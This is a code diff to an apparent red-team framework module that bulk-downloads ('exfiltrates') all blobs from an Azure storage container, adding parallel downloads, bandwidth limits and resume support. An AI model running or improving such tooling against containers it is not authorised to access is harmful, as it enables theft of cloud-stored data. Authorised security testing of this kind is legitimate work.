@@ -4,6 +4,7 @@ from typing import Dict, Any, Tuple
 from azure.storage.blob import BlobServiceClient
 from azure.core.exceptions import ResourceNotFoundError
 from core.azure.azure_access import AzureAccess
+from core.transfer.download_engine import DownloadEngine, DownloadTask
 from urllib.parse import urlparse
 import os
 import datetime
@@ -28,6 +29,9 @@ class AzureExfilStorageAccountContainer(BaseTechnique):
             container_name: str = kwargs["container_name"]
             connection_string: str = kwargs["connection_string"]
             container_url: str = kwargs["container_url"]
+            max_workers: int = kwargs.get("max_workers", DownloadEngine.DEFAULT_MAX_WORKERS) or DownloadEngine.DEFAULT_MAX_WORKERS
+            bandwidth_limit: int = kwargs.get("bandwidth_limit", None)
+            resume_path: str = kwargs.get("resume_path", None)
 
             # Input Validation
             if container_name in ["", None]:
@@ -71,7 +75,10 @@ class AzureExfilStorageAccountContainer(BaseTechnique):
             container_client = blob_service_client.get_container_client(container_name)
 
             # Create download dir
-            if connection_string:
+            if resume_path:
+                # Continue a previous download, skipping blobs already downloaded
+                download_path = resume_path
+            elif connection_string:
                 dt_stamp = datetime.datetime.now().strftime("%Y-%m-%d_%H-%M-%S")
                 download_path = f"./output/azure_sa_container_download/{str(dt_stamp)}"
             else:
@@ -82,36 +89,43 @@ class AzureExfilStorageAccountContainer(BaseTechnique):
             # List all blobs in the container
             blob_list = container_client.list_blobs()
 
-            download_success_count = 0
-            download_failure_count = 0
+            def blob_tasks():
+                for blob in blob_list:
+                    # Skip directory placeholders
+                    if blob.name.endswith("/"):
+                        continue
 
-            for blob in blob_list:
-                # Get blob client for the blob
-                blob_client = container_client.get_blob_client(blob.name)
-                
-                # Construct full path for the downloaded file
-                download_file_path = os.path.join(download_path, blob.name)
-                
-                # Create directories if they don't exist
-                os.makedirs(os.path.dirname(download_file_path), exist_ok=True)
-                
-                # Attempt to download blob from container
-                try:
-                    with open(download_file_path, "wb") as download_file:
-                        download_file.write(blob_client.download_blob().readall())
-                    download_success_count +=1 
-                except:
-                    download_failure_count +=1
+                    # Get blob client for the blob
+                    blob_client = container_client.get_blob_client(blob.name)
+
+                    # Ranged reads of the blob, downloaded by the engine
+                    def fetch(start=None, end=None, blob_client=blob_client):
+                        if start is None:
+                            return blob_client.download_blob().chunks()
+                        return blob_client.download_blob(offset=start, length=end - start + 1).chunks()
+
+                    # Construct full path for the downloaded file
+                    download_file_path = os.path.join(download_path, blob.name)
+                    yield DownloadTask(key=blob.name, local_path=download_file_path, fetch=fetch, size=blob.size, version=blob.etag)
+
+            # Download blobs concurrently
+            engine = DownloadEngine(
+                download_path,
+                max_workers=max_workers,
+                max_bytes_per_second=bandwidth_limit * 1024 * 1024 if bandwidth_limit else None
+            )
+            transfer_stats = engine.download(blob_tasks())
 
-            return ExecutionStatus.SUCCESS, {
+            return ExecutionStatus.SUCCESS if transfer_stats["failed"] == 0 else ExecutionStatus.PARTIAL_SUCCESS, {
                 "message": f"Successfully exfiltrated container {container_name} blobs",
                 "value": {
                     "exfil_local_path": download_path,
-                    "download_success_count": download_success_count,
-                    "download_failure_count": download_failure_count
+                    "download_success_count": transfer_stats["downloaded"] + transfer_stats["skipped"],
+                    "download_failure_count": transfer_stats["failed"],
+                    "transfer_stats": transfer_stats
                 }
             }
-        except ResourceNotFoundError:
+        except ResourceNotFoundError as e:
             return ExecutionStatus.FAILURE, {
                 "error": str(e),
                 "message": f"Failed to exfiltrate container {container_name} blobs"
@@ -127,5 +141,8 @@ class AzureExfilStorageAccountContainer(BaseTechnique):
             "is_container_public": {"type": "bool", "required": True, "default": False, "name": "Is Container Public?", "input_field_type" : "bool"},
             "container_name": {"type": "str", "required": True, "default": None, "name": "Container Name", "input_field_type" : "text"},
             "connection_string": {"type": "str", "required": False, "default": None, "name": "Connection String (For Private Container)", "input_field_type" : "text"},
-            "container_url": {"type": "str", "required": False, "default": None, "name": "Container URL (For Public Container)", "input_field_type" : "text"}
+            "container_url": {"type": "str", "required": False, "default": None, "name": "Container URL (For Public Container)", "input_field_type" : "text"},
+            "max_workers": {"type": "int", "required": False, "default": DownloadEngine.DEFAULT_MAX_WORKERS, "name": "Max Parallel Downloads", "input_field_type" : "number"},
+            "bandwidth_limit": {"type": "int", "required": False, "default": None, "name": "Bandwidth Limit (MB/s)", "input_field_type" : "number"},
+            "resume_path": {"type": "str", "required": False, "default": None, "name": "Resume Download Path (Previous Exfil Local Path)", "input_field_type" : "text"}
         }
\ No newline at end of file